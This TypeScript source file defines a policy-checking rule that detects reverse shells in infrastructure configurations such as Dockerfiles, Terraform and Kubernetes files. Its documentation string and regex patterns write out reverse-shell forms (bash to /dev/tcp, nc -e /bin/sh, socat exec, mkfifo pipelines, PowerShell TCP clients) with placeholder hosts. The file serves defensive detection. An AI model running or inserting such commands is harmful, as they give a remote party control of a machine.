import type { Span } from '../model/range';
import { defineRule } from './rule';
import { scriptUnits, type ScriptUnit } from './shared/scripts';
import { commandName, isInteractiveShell, isInterpreter, isShell, programArguments, programName, runsStandardInput, type Command, type Pipeline } from './shared/shell';
import { describeLocation } from './shared/where';

const NETCAT = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd']);
/** Programs that carry a pipeline's text to and from a remote host. */
const NETWORK_CLIENTS = new Set([...NETCAT, 'telnet', 'socat']);
const SOCKET_DEVICE = /^\/dev\/(?:tcp|udp)\/[^/\s]{1,253}\/\d{1,5}$/;

/** A socket opened to a remote host, in the languages reverse-shell one-liners are written in. */
const SOCKET_API = /socket\.socket|socket\.create_connection|fsockopen|TCPSocket|IO::Socket::INET|\bsocket\s*\(\s*S\b|net\.Socket|require\(\s*["']net["']\s*\)/;
/** A shell started for whoever is on the socket's other end. */
const SHELL_SPAWN = /pty\.spawn|["'`](?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh(?:\s+-i)?["'`]|\/bin\/(?:ba|z|da)?sh\b|cmd\.exe/;
/** PowerShell: a TCP client whose stream feeds Invoke-Expression. */
const POWERSHELL_FORM = /New-Object\s{1,4}(?:System\.)?Net\.Sockets\.TCPClient\s{0,4}\([\s\S]{0,600}?GetStream\s{0,4}\(\s{0,4}\)[\s\S]{0,800}?\b(?:iex|Invoke-Expression)\b/gi;

export default defineRule({
	id: 'AUP-ATK-001',
	title: 'Reverse shell',
	severity: 'error',
	aupSection: '3',
	category: 'attack-tooling',
	formats: ['terraform', 'terraform-json', 'cloudformation', 'kubernetes', 'compose', 'dockerfile', 'cloud-init', 'shell', 'bicep'],
	docs: [
		'Finds commands that hand a shell to a remote host: `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `exec 196<>/dev/tcp/...` feeding a shell, `nc -e /bin/sh`, `ncat --exec`, `socat exec:... tcp:...`, a `mkfifo` pipeline through `sh` and `nc`, and Python, Perl, PHP, Ruby, Node and PowerShell one-liners that connect a socket and spawn a shell on it.',
		'',
		'**Why it matters.** A reverse shell gives whoever listens at the other end interactive control of the machine, bypassing inbound firewalls. Section 3 of the Acceptable Use Policy forbids configurations designed to compromise systems, uploading malicious code, and gaining unauthorized access; there is no everyday operational use for one in deployable infrastructure, so it is an error.',
		'',
		'**What to do instead.** For remote administration use SSH with keys behind a bastion or VPN, or your provider\'s session manager (AWS SSM Session Manager, GCP IAP, Azure Bastion), which are authenticated and logged. For connectivity checks, `nc -z HOST PORT` or `timeout 1 bash -c "</dev/tcp/HOST/PORT"` test a port without running a shell and are not reported.',
		'',
		'**When it is legitimate.** An authorized penetration test or red-team exercise, with the written permission section 3 asks for; keep it out of production configuration and suppress the finding with that permission as the reason: `# aup-guard-ignore AUP-ATK-001: pentest PT-2026-04 with a signed permission letter until=2026-05-01`.',
	].join('\n'),
	check(file, report) {
		for (const unit of scriptUnits(file)) {
			const where = describeLocation(unit.ref.resource, unit.ref.key);
			for (const found of reverseShells(unit)) {
				report({
					span: found.span,
					message: `Reverse shell (${where}): ${found.what} gives a remote host an interactive shell on this machine. Attack tooling is prohibited by AUP section 3; use SSH behind a bastion or your provider's session manager for remote access.`,
				});
			}
		}
	},
});

interface Found {
	readonly span: Span;
	readonly what: string;
}

function reverseShells(unit: ScriptUnit): Found[] {
	const found: Found[] = [];
	const commands = unit.pipelines.flatMap(pipeline => pipeline.commands);
	for (const command of commands) {
		const what = shellOnSocket(command) ?? netcatExec(command) ?? socatExec(command) ?? interpreterSocket(unit, command);
		if (what) {
			found.push({ span: unit.spanOf(command.start, command.end), what });
		}
		const descriptor = socketDescriptor(command);
		const users = descriptor === undefined ? [] : commands.filter(other => other !== command && readsDescriptor(other, descriptor));
		if (users.length > 0) {
			const start = Math.min(command.start, ...users.map(user => user.start));
			const end = Math.max(command.end, ...users.map(user => user.end));
			found.push({ span: unit.spanOf(start, end), what: `a shell reading /dev/tcp through descriptor ${descriptor}` });
		}
	}
	for (const pipeline of unit.pipelines) {
		if (isShellThroughNetwork(pipeline)) {
			const commandsOf = pipeline.commands;
			found.push({ span: unit.spanOf(commandsOf[0].start, commandsOf[commandsOf.length - 1].end), what: 'a shell piped to and from a network client' });
		}
	}
	for (const match of unit.text.matchAll(POWERSHELL_FORM)) {
		found.push({ span: unit.spanOf(match.index, match.index + match[0].length), what: 'a PowerShell TCP client running what it receives' });
	}
	return dropContained(found);
}

/** `bash -i >& /dev/tcp/h/p 0>&1`: a shell whose streams are a socket. Writing to one (`echo > /dev/tcp/h/p`) only probes a port. */
function shellOnSocket(command: Command): string | undefined {
	if (!isShell(commandName(command)) || !command.redirects.some(redirect => SOCKET_DEVICE.test(redirect.target?.text ?? ''))) {
		return undefined;
	}
	const stdinRedirected = command.redirects.some(redirect => redirect.fd === '0' || redirect.operator.startsWith('<'));
	return isInteractiveShell(command) || stdinRedirected ? 'a shell connected to /dev/tcp' : undefined;
}

/** `exec 196<>/dev/tcp/h/p`: the descriptor number opened on a socket. */
function socketDescriptor(command: Command): string | undefined {
	if (command.words[0]?.text !== 'exec' || command.programIndex >= 0) {
		return undefined;
	}
	const redirect = command.redirects.find(candidate => candidate.operator === '<>' && SOCKET_DEVICE.test(candidate.target?.text ?? ''));
	return redirect?.fd;
}

/** `sh <&196 >&196`, `0<&196`, or `$line 2>&5` in a read loop: commands run with the socket as their streams. */
function readsDescriptor(command: Command, descriptor: string): boolean {
	const uses = command.redirects.some(redirect => redirect.operator.endsWith('&') && redirect.target?.text === descriptor);
	if (!uses) {
		return false;
	}
	const index = command.programIndex;
	return index < 0 || isShell(programName(command.words[index].text)) || command.words[index].text.startsWith('$');
}

/** `nc -e /bin/sh HOST PORT`, `ncat --exec cmd.exe`, `ncat --sh-exec ...`. */
function netcatExec(command: Command): string | undefined {
	const name = commandName(command);
	if (name === undefined || !NETCAT.has(name)) {
		return undefined;
	}
	const args = programArguments(command);
	for (let i = 0; i < args.length; i++) {
		const text = args[i].text;
		if (text === '--sh-exec' || text === '--lua-exec' || text.startsWith('--sh-exec=')) {
			return `${name} ${text.split('=')[0]}`;
		}
		const target = text.startsWith('--exec=') ? text.slice('--exec='.length) : /^(?:-[A-Za-z]*[ec]|--exec)$/.test(text) ? args[i + 1]?.text : undefined;
		if (target !== undefined && /^(?:(?:\/usr)?\/bin\/)?(?:ba|z|da|k)?sh$|cmd(?:\.exe)?$|powershell(?:\.exe)?$|pwsh$/i.test(target)) {
			return `${name} executing ${target}`;
		}
	}
	return undefined;
}

/** `socat exec:'bash -li',pty tcp:HOST:PORT`: a program bound to a socket. A plain TCP relay is not a shell. */
function socatExec(command: Command): string | undefined {
	if (commandName(command) !== 'socat') {
		return undefined;
	}
	const args = programArguments(command).map(word => word.text.toLowerCase());
	const runs = args.some(arg => /^(?:exec|system):/.test(arg));
	const connects = args.some(arg => /^(?:tcp[46]?|tcp[46]?-connect|tcp[46]?-listen|tcp-l|udp[46]?|openssl|openssl-connect|ssl)[:,]/.test(arg));
	return runs && connects ? 'socat binding a program to a socket' : undefined;
}

/** `python -c 'import socket,...; pty.spawn("/bin/sh")'` and kin: a socket and a shell in one program. */
function interpreterSocket(unit: ScriptUnit, command: Command): string | undefined {
	const name = commandName(command);
	if (!isInterpreter(name)) {
		return undefined;
	}
	const program = unit.text.slice(command.start, command.end);
	return SOCKET_API.test(program) && SHELL_SPAWN.test(program) ? `a ${name} one-liner connecting a socket to a shell` : undefined;
}

/** `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`: a shell that reads and writes through a network client. */
function isShellThroughNetwork(pipeline: Pipeline): boolean {
	const hasClient = pipeline.commands.some(isNetworkClient);
	const hasShell = pipeline.commands.some(command => isShell(commandName(command)) && (runsStandardInput(command) || isInteractiveShell(command)));
	return hasClient && hasShell;
}

function isNetworkClient(command: Command): boolean {
	const name = commandName(command);
	if (name === 'openssl') {
		return programArguments(command).some(word => word.text === 's_client');
	}
	return name !== undefined && NETWORK_CLIENTS.has(name);
}

/** One finding per place: a pipeline already reported is not reported again for a stage of it. */
function dropContained(found: Found[]): Found[] {
	return found.filter((candidate, index) => !found.some((other, otherIndex) => otherIndex !== index
		&& other.span.start <= candidate.span.start && candidate.span.end <= other.span.end
		&& (other.span.end - other.span.start > candidate.span.end - candidate.span.start || otherIndex < index)));
}
